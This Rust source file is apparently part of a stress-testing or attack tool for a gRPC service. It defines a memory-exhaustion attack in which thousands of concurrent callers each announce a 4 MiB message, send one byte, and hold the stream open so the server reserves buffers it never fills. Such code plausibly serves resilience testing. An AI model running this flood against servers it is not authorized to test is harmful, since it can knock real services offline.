//! Messages that are announced and not sent.

use std::time::Duration;

use anyhow::Result;
use bytes::Bytes;
use futures_util::future::LocalBoxFuture;

use crate::attack::{Attack, AttackTarget};
use crate::flood::{CallerFlood, WINDOW_SMALL};
use crate::wire;

/// The prefix of a message of 4 MiB, and its first byte.
const BEGINNING: &[u8] = &[0, 0, 0x40, 0, 0, 0x0a];

/// Calls that announce the largest message and send one byte of it: a server that makes room at once fills its memory.
pub(crate) struct AnnouncedAttack;

impl Attack for AnnouncedAttack {
    fn name(&self) -> &'static str {
        "announced"
    }

    fn run<'t>(&'t self, target: &'t AttackTarget) -> LocalBoxFuture<'t, Result<()>> {
        let flood = CallerFlood {
            connections: 4,
            callers: 1_000,
            window: WINDOW_SMALL,
            pause: Duration::from_secs(1),
        };
        Box::pin(flood.run(target, async |mut sender, _caller| {
            let path = "/earmark.allocation.v1.AllocationService/SubmitAllocations";
            let head = wire::head(target, path, Some(&target.token))?;
            let (response, mut stream) = sender.send_request(head, false)?;
            stream.send_data(Bytes::from_static(BEGINNING), false)?;
            wire::read(response).await?;
            Ok(())
        }))
    }
}
